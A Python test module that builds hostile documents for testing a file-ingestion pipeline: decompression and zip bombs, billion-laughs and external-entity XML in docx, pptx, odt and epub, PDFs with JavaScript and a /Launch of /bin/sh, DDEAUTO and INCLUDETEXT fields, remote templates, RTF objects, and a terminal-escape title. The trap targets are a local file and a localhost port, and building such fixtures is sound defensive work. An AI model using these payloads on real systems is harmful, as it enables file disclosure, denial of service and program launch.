"""Files that somebody should never have sent: real ones, made here, each to do harm in its own way."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from docx.oxml import parse_xml
from odfdo import Document, Paragraph
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.ingest import texts
from tests.ingest.files import Slide, make_docx, make_page, make_pdf, make_pptx, make_text, rewrite_member

MB = 2**20
GB = 2**30

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@dataclass(frozen=True)
class Trap:
    """What must stay untouched: a file that is nobody's business, and a port where nobody may call."""

    secret: Path
    port: int

    @property
    def url(self) -> str:
        """An address that must not be fetched."""
        return f"http://127.0.0.1:{self.port}/called"


Make = Callable[[Path, Trap], object]


# --- building blocks


def plain_docx(path: Path) -> Path:
    """An honest document of one paragraph."""
    return make_docx(path, lambda document: document.add_paragraph(texts.EN))


def plain_odt(path: Path, text: str = texts.EN) -> Path:
    """An honest OpenDocument text of one paragraph."""
    document = Document("text")
    document.body.clear()
    document.body.append(Paragraph(text))
    document.save(str(path))
    return path


def plain_epub(path: Path, chapter: str = f"<p>{texts.EN}</p>", head: str = "") -> Path:
    """An honest book of one chapter."""
    container = (
        '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
        '<rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    package = (
        '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i">'
        '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Book</dc:title>'
        '<dc:identifier id="i">b</dc:identifier><dc:language>en</dc:language></metadata>'
        '<manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="c"/></spine></package>'
    )
    page = f'<?xml version="1.0"?>{head}<html xmlns="http://www.w3.org/1999/xhtml"><body>{chapter}</body></html>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        for name, data in {"META-INF/container.xml": container, "b.opf": package, "c.xhtml": page}.items():
            archive.writestr(name, data)
    return path


def deflated(unit: bytes, times: int, before: bytes = b"") -> tuple[bytes, int]:
    """`before` and `unit` again and again as a raw deflate stream, made without writing it all; and its size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    body = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + body * times + b"\x03\x00", len(before) + len(unit) * times


def raw_member(archive: zipfile.ZipFile, name: str, packed: bytes, size: int) -> zipfile.ZipInfo:
    """Add a member whose bytes and size are given as they are to stand there."""
    info = zipfile.ZipInfo(name)
    info.compress_type, info.file_size, info.compress_size, info.CRC = zipfile.ZIP_DEFLATED, size, len(packed), 0
    file: Any = archive.fp
    file.seek(archive.start_dir)
    info.header_offset = file.tell()
    file.write(info.FileHeader(zip64=size > 2**31) + packed)
    archive.start_dir = file.tell()
    archive.filelist.append(info)
    archive.NameToInfo[name] = info
    archive._didModify = True  # type: ignore[attr-defined]
    return info


def with_member(path: Path, name: str, packed: bytes, size: int) -> Path:
    """The archive at `path` with the member `name` in the place of its own, if it has one."""
    with zipfile.ZipFile(path) as archive:
        kept = {entry: archive.read(entry) for entry in archive.namelist() if entry != name}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, data in kept.items():
            archive.writestr(entry, data, zipfile.ZIP_STORED if entry == "mimetype" else None)
        raw_member(archive, name, packed, size)
    return path


BILLION = (
    "<!DOCTYPE b [<!ENTITY a0 'laugh'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11)) + "]>"
)
QUADRATIC = f"<!DOCTYPE b [<!ENTITY a10 '{'x' * 100_000}'>]>"


def external(address: str) -> str:
    """A DOCTYPE whose entity a10 is what lies at `address`."""
    return f'<!DOCTYPE b [<!ENTITY a10 SYSTEM "{address}"><!ENTITY % p SYSTEM "{address}"> %p;]>'


def with_doctype(member: str, doctype: str, times: int = 1) -> Callable[[Path], Path]:
    """Puts a DOCTYPE into an XML member, and its entity a10 into the first text there."""

    def change(xml: bytes) -> bytes:
        xml = xml.split(b"?>", 1)[1] if xml.lstrip().startswith(b"<?xml") else xml
        marked = xml.replace(b"The city", b"&a10;" * times + b" The city", 1)
        return b'<?xml version="1.0" encoding="UTF-8"?>' + doctype.encode() + marked

    return lambda path: rewrite_member(path, member, change)


def entities() -> dict[str, Make]:
    """Each kind of XML entity in each format that is XML."""
    carriers: dict[str, tuple[Callable[[Path], Path], str]] = {
        "docx": (plain_docx, "word/document.xml"),
        "pptx": (lambda path: make_pptx(path, [Slide("Thanks", [texts.EN])]), "ppt/slides/slide1.xml"),
        "odt": (plain_odt, "content.xml"),
        "epub": (plain_epub, "c.xhtml"),
    }
    found: dict[str, Make] = {}
    for suffix, (make, member) in carriers.items():

        def put(path: Path, doctype: str, times: int = 1, make: Any = make, member: str = member) -> object:
            return with_doctype(member, doctype, times)(make(path))

        found[f"laughs.{suffix}"] = lambda path, trap, put=put: put(path, BILLION)
        found[f"quadratic.{suffix}"] = lambda path, trap, put=put: put(path, QUADRATIC, 5_000)
        found[f"file-entity.{suffix}"] = lambda path, trap, put=put: put(path, external(trap.secret.as_uri()))
        found[f"web-entity.{suffix}"] = lambda path, trap, put=put: put(path, external(trap.url))
    for name, doctype in {"laughs": BILLION, "quadratic": QUADRATIC}.items():
        found[f"{name}.xhtml"] = lambda path, trap, doctype=doctype: xhtml(path, doctype)
        found[f"{name}.svg"] = lambda path, trap, doctype=doctype: svg(path, doctype)
    found["file-entity.html"] = lambda path, trap: xhtml(path, external(trap.secret.as_uri()))
    found["web-entity.html"] = lambda path, trap: xhtml(path, external(trap.url))
    return found


def xhtml(path: Path, doctype: str) -> Path:
    """A web page that is XML."""
    body = f"<html xmlns='http://www.w3.org/1999/xhtml'><body><p>&a10; {texts.EN}</p></body></html>"
    return make_text(path, f'<?xml version="1.0"?>{doctype}{body}')


def svg(path: Path, doctype: str) -> Path:
    """A drawing."""
    return make_text(
        path, f'<?xml version="1.0"?>{doctype}<svg xmlns="http://www.w3.org/2000/svg"><text>&a10;</text></svg>'
    )


# --- archives


PARAGRAPH = b"<w:p><w:r><w:t>Bomb</w:t></w:r></w:p>"


def docx_bomb(path: Path, trap: Trap, *, size: int = 10 * GB, claimed: int | None = None) -> object:
    """A document whose text unpacks to `size` bytes."""
    head = f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>'.encode()
    unit = PARAGRAPH * (MB // len(PARAGRAPH))
    packed, real = deflated(unit, size // len(unit), head)
    return with_member(plain_docx(path), "word/document.xml", packed, claimed or real)


def zero_bomb(path: Path, make: Callable[[Path], Path], member: str) -> object:
    """An honest file whose `member` is 10 GB of spaces."""
    packed, size = deflated(b" " * MB, 10 * 1024)
    return with_member(make(path), member, packed, size)


def overlapping(path: Path, trap: Trap) -> object:
    """An archive of 900 files of 100 MB that all lie at the same place."""
    packed, size = deflated(b"The bomb. " * (MB // 10), 100)
    with zipfile.ZipFile(path, "w") as archive:
        first = raw_member(archive, "bomb.txt", packed, size)
        archive.filelist += [first] * 899
        archive._didModify = True  # type: ignore[attr-defined]
    return path


def nested(path: Path, trap: Trap) -> object:
    """Four archives in each of four in each of four, and so on, each holding the same."""
    inner = path.with_suffix(".inner")
    data = (texts.EN * 50).encode()
    for level in range(6):
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(4):
                archive.writestr(f"{number}.{'zip' if level else 'txt'}", data)
        data = inner.read_bytes()
    inner.unlink()
    return path.write_bytes(data)


# --- PDF


def pdf(path: Path, objects: Iterable[bytes], trailer: bytes = b"/Root 1 0 R") -> Path:
    """A PDF of these objects, numbered from 1."""
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    data += b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start)
    path.write_bytes(data)
    return path


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def pdf_loop(path: Path, trap: Trap) -> object:
    """A page tree that is its own branch."""
    return pdf(
        path,
        [CATALOG, b"<</Type/Pages/Count 9/Kids[2 0 R 3 0 R]>>", b"<</Type/Pages/Parent 2 0 R/Count 9/Kids[2 0 R]>>"],
    )


def pdf_many_pages(path: Path, trap: Trap) -> object:
    """The same page 100,000 times."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    kids = b"<</Type/Pages/Count 100000/Kids[" + b"3 0 R " * 100_000 + b"]>>"
    return pdf(path, [CATALOG, kids, page, stream(b"BT /F 12 Tf 50 700 Td (The same page again.) Tj ET"), FONT])


def pdf_page(path: Path, content: bytes, *more: bytes, resources: bytes = b"", box: bytes = b"0 0 600 800") -> Path:
    """One page with this content object; `more` objects count from 6."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>>>" % (
        box,
        resources,
    )
    return pdf(path, [CATALOG, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, content, FONT, *more])


def pdf_stream_bomb(path: Path, trap: Trap) -> object:
    """A page whose content unpacks to 4 GB."""
    packed, _ = deflated(b"BT /F 12 Tf (x) Tj ET " * (MB // 22), 4 * 1024)
    return pdf_page(path, stream(b"\x78\xda" + packed, b"/Filter/FlateDecode"))


def pdf_twice_packed(path: Path, trap: Trap) -> object:
    """A page whose content is packed twice: a few kilobytes, and 20 GB."""
    once, _ = deflated(b" " * MB, 20 * 1024)
    return pdf_page(path, stream(zlib.compress(b"\x78\xda" + once, 9), b"/Filter[/FlateDecode/FlateDecode]"))


def pdf_image(path: Path, entries: bytes, data: bytes) -> object:
    """A page that is one picture."""
    picture = stream(data, b"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray " + entries)
    return pdf_page(path, stream(b"600 0 0 800 0 0 cm /I Do"), picture, resources=b"/XObject<</I 6 0 R>>")


def pdf_huge_image(path: Path, trap: Trap) -> object:
    """A picture of 60,000 by 60,000 points, in 4 MB."""
    packed, _ = deflated(bytes(MB), 3_500)
    return pdf_image(path, b"/Width 60000/Height 60000/BitsPerComponent 8/Filter/FlateDecode", b"\x78\xda" + packed)


def pdf_huge_page(path: Path, trap: Trap) -> object:
    """A page of 5,000 metres with nothing on it but a line."""
    return pdf_page(path, stream(b"0 0 m 100 100 l S"), box=b"0 0 14400000 14400000")


def pdf_junk_image(path: Path, kind: bytes) -> object:
    """A picture of junk."""
    junk = bytes((number * 7919) % 251 for number in range(20_000))
    magic = b"\x00\x00\x00\x0cjP  \r\n\x87\n" if kind == b"JPXDecode" else b""
    return pdf_image(path, b"/Width 5000/Height 5000/BitsPerComponent 1/Filter/" + kind, magic + junk)


def action(kind: str, field: str, value: str) -> DictionaryObject:
    """Something that a PDF asks its reader to do."""
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(field): TextStringObject(value)})


def pdf_active(path: Path, trap: Trap) -> object:
    """An honest page with JavaScript, a program to start, an address to call and a file in it."""
    writer = PdfWriter(clone_from=make_pdf(path, [[texts.EN]]))
    writer.add_attachment("evil.exe", b"MZ" + bytes(1_000))
    script = action("/JavaScript", "/JS", f"app.launchURL('{trap.url}', true); this.submitForm('{trap.url}');")
    launch = action("/Launch", "/F", "/bin/sh")
    launch[NameObject("/Next")] = script
    writer._root_object[NameObject("/OpenAction")] = launch
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/URI", "/URI", trap.url)})
    writer.write(str(path))
    return path


def pdf_self_drawing(path: Path, trap: Trap) -> object:
    """A drawing that draws itself."""
    form = stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return pdf_page(path, stream(b"/X Do"), form, resources=b"/XObject<</X 6 0 R>>")


def pdf_deep(path: Path, trap: Trap) -> object:
    """Arrays 200,000 deep in the page's content and in its dictionary."""
    return pdf_page(path, stream(b"[" * 200_000 + b"]" * 200_000 + b" TJ"), b"[" * 200_000)


def pdf_length_loop(path: Path, trap: Trap) -> object:
    """A stream as long as itself."""
    return pdf_page(path, b"<</Length 4 0 R>>\nstream\nBT (x) Tj ET\nendstream")


def pdf_terminal(path: Path, trap: Trap) -> object:
    """A title that would write to a terminal's title bar and colour all that follows."""
    return make_pdf(path, [[texts.EN]], title="\x1b]0;owned\x07\x1b[31mGuide\x1b[2J")


# --- office


def with_relation(path: Path, part: str, kind: str, target: str) -> Path:
    """A relation of an office file to something elsewhere."""
    relation = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        f' Target="{target}" TargetMode="External"/></Relationships>'
    )
    return rewrite_member(path, part, lambda xml: xml.replace(b"</Relationships>", relation.encode()))


def docx_attached_template(path: Path, trap: Trap) -> object:
    """A document whose template lies on somebody's server, which is how macros come in."""
    for kind in ("attachedTemplate", "image", "oleObject", "hyperlink", "frame", "subDocument"):
        with_relation(path if path.exists() else plain_docx(path), "word/_rels/document.xml.rels", kind, trap.url)
    return path


def docx_field(path: Path, trap: Trap) -> object:
    """A document with fields that would start a program and take in a file and a page."""

    def write(document: Any) -> None:
        paragraph = document.add_paragraph(texts.EN)
        codes = (f'DDEAUTO "/bin/sh" "{trap.url}"', f'INCLUDETEXT "{trap.secret}"', f'INCLUDEPICTURE "{trap.url}"')
        for code in codes:
            instruction = code.replace('"', "&quot;")
            paragraph._p.append(parse_xml(f'<w:fldSimple xmlns:w="{W}" w:instr="{instruction}"><w:r/></w:fldSimple>'))

    return make_docx(path, write)


def docm(path: Path, trap: Trap) -> object:
    """A document with macros."""
    plain_docx(path)
    rewrite_member(
        path,
        "[Content_Types].xml",
        lambda xml: xml.replace(b"document.main+xml", b"document.macroEnabled.main+xml").replace(
            b"wordprocessingml.document.macroEnabled", b"wordprocessingml.document.macroEnabled"
        ),
    )
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000))
    return path


def docx_deep(path: Path, trap: Trap) -> object:
    """Tables in tables in tables, 5,000 deep."""
    open_, close = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    deep = f"{open_ * 5_000}<w:p><w:r><w:t>{texts.EN}</w:t></w:r></w:p>{close * 5_000}"
    xml = f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{deep}</w:body></w:document>'.encode()
    return rewrite_member(plain_docx(path), "word/document.xml", lambda _: xml)


def pptx_loop(path: Path, trap: Trap) -> object:
    """A slide whose layout is the slide."""
    make_pptx(path, [Slide("Thanks", [texts.EN])])
    return rewrite_member(
        path,
        "ppt/slides/_rels/slide1.xml.rels",
        lambda xml: xml.replace(b"../slideLayouts/slideLayout2.xml", b"slide1.xml"),
    )


# --- text


def long_line(path: Path, trap: Trap) -> object:
    """190 MB in one line."""
    with path.open("wb") as file:
        for _ in range(190):
            file.write(b"volunteer " * (MB // 10))
    return path


def page_of(path: Path, body: str) -> object:
    """A web page."""
    return make_text(path, f"<!DOCTYPE html><html><head><title>Page</title></head><body>{body}</body></html>")


def page_that_calls(path: Path, trap: Trap) -> object:
    """A page of all that a browser would fetch."""
    calls = (
        f'<script src="{trap.url}"></script><img src="{trap.url}"><iframe src="{trap.url}"></iframe>'
        f'<link rel="stylesheet" href="{trap.url}"><object data="{trap.url}"></object><embed src="{trap.url}">'
        f'<meta http-equiv="refresh" content="0;url={trap.url}"><base href="{trap.url}">'
        f'<img src="{trap.secret.as_uri()}"><xi:include href="{trap.secret.as_uri()}" parse="text"/>'
        f"<style>@import url({trap.url});</style>"
    )
    return make_page(path, f"<p>{texts.EN}</p><p>{texts.EN_MORE}</p>{calls}", title="Page", head=calls)


def rtf_objects(path: Path, trap: Trap) -> object:
    """An RTF file with an object to start and pictures to fetch."""
    fields = (
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{trap.url}"}}}}{{\field{{\*\fldinst INCLUDETEXT "{trap.secret}"}}}}'
    )
    evil = r"{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata 0105000002000000" + "41" * 4_000 + "}}"
    template = rf"{{\*\template {trap.url}}}"
    return make_text(path, rf"{{\rtf1\ansi {template}{evil}{fields}{texts.EN}\par}}")


def mht(path: Path, trap: Trap) -> object:
    """A mail whose parts are in each other, 3,000 deep."""
    head = "From: a@example.org\nSubject: Deep\nMIME-Version: 1.0\n"
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(3_000))
    return make_text(path, f"{head}{parts}Content-Type: text/plain\n\n{texts.EN}\n")


def gif_huge(path: Path, trap: Trap) -> object:
    """A picture that says it is 65,535 points wide and high."""
    return path.write_bytes(
        b"GIF89a"
        + struct.pack("<HHBBB", 65_535, 65_535, 0xF0, 0, 0)
        + bytes(6)
        + b",\0\0\0\0"
        + struct.pack("<HHB", 65_535, 65_535, 0)
        + b"\x08\xff"
        + bytes(255) * 40
        + b"\0;"
    )


def png_huge(path: Path, trap: Trap) -> object:
    """A picture of 50,000 by 50,000 points, in 3 MB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packed, _ = deflated(bytes(MB), 2_400)
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 0, 0, 0, 0)
    return path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"\x78\xda" + packed) + chunk(b"IEND", b"")
    )


FILES: dict[str, Make] = {
    **entities(),
    "bomb.docx": docx_bomb,
    "bomb-that-lies.docx": lambda path, trap: docx_bomb(path, trap, claimed=MB // 20),
    "bomb-of-1-gb.docx": lambda path, trap: docx_bomb(path, trap, size=GB),
    "bomb.odt": lambda path, trap: zero_bomb(path, plain_odt, "content.xml"),
    "bomb.pptx": lambda path, trap: zero_bomb(
        path, lambda p: make_pptx(p, [Slide("A", [texts.EN])]), "ppt/slides/slide1.xml"
    ),
    "bomb.epub": lambda path, trap: zero_bomb(path, plain_epub, "c.xhtml"),
    "bomb-in-a-picture.docx": lambda path, trap: zero_bomb(path, plain_docx, "word/media/image1.png"),
    "overlapping.zip": overlapping,
    "nested.zip": nested,
    "loop.pdf": pdf_loop,
    "many-pages.pdf": pdf_many_pages,
    "stream-bomb.pdf": pdf_stream_bomb,
    "twice-packed.pdf": pdf_twice_packed,
    "huge-image.pdf": pdf_huge_image,
    "huge-page.pdf": pdf_huge_page,
    "junk-jbig2.pdf": lambda path, trap: pdf_junk_image(path, b"JBIG2Decode"),
    "junk-jpx.pdf": lambda path, trap: pdf_junk_image(path, b"JPXDecode"),
    "junk-ccitt.pdf": lambda path, trap: pdf_junk_image(path, b"CCITTFaxDecode"),
    "active.pdf": pdf_active,
    "self-drawing.pdf": pdf_self_drawing,
    "deep.pdf": pdf_deep,
    "length-loop.pdf": pdf_length_loop,
    "terminal.pdf": pdf_terminal,
    "attached-template.docx": docx_attached_template,
    "fields.docx": docx_field,
    "macros.docm": docm,
    "deep.docx": docx_deep,
    "loop.pptx": pptx_loop,
    "long-line.txt": long_line,
    "combining.txt": lambda path, trap: make_text(path, texts.EN + "e" + "\u0316\u0301" * (5 * MB // 2)),
    "combining-small.txt": lambda path, trap: make_text(path, texts.EN + " e" + "\u0316\u0301" * 500_000 + " end."),
    "nul.txt": lambda path, trap: make_text(path, texts.EN + "\0" * 1_000 + texts.EN_MORE),
    "nul-throughout.txt": lambda path, trap: make_text(path, "\0".join(texts.EN)),
    "white-space.txt": lambda path, trap: make_text(path, " \t\r\n\u00a0\u2003\ufeff" * 10_000),
    "spaces.pdf": lambda path, trap: make_text(path, " " * 100_000),
    "deep.html": lambda path, trap: page_of(path, "<div><b><i>" * 50_000 + texts.EN),
    "tables.html": lambda path, trap: page_of(path, "<table><tr><td>" * 5_000 + texts.EN),
    "attributes.html": lambda path, trap: page_of(path, "<p " + "a=1 " * 500_000 + f">{texts.EN}</p>"),
    "unclosed.html": lambda path, trap: page_of(path, "<p>" + "<!--" * 200_000 + texts.EN),
    "calls.html": page_that_calls,
    "deep.rtf": lambda path, trap: make_text(path, "{\\rtf1 " + "{\\b " * 200_000 + texts.EN + "}" * 200_000 + "}"),
    "objects.rtf": rtf_objects,
    "bin.rtf": lambda path, trap: make_text(path, "{\\rtf1 \\bin99999999999999999999 " + texts.EN + "}"),
    "deep.md": lambda path, trap: make_text(path, "> " * 5_000 + texts.EN + "\n\n" + "[" * 5_000 + "\n" + "*a_" * 500),
    "brackets.md": lambda path, trap: make_text(path, f"# A\n\n{texts.EN}\n\n" + "![[](" * 5_000),
    "deep.json.txt": lambda path, trap: make_text(path, "[" * 1_000_000),
    "deep.eml": mht,
    "huge.png": png_huge,
    "huge.gif": gif_huge,
}
"""By name, each hostile file's maker."""
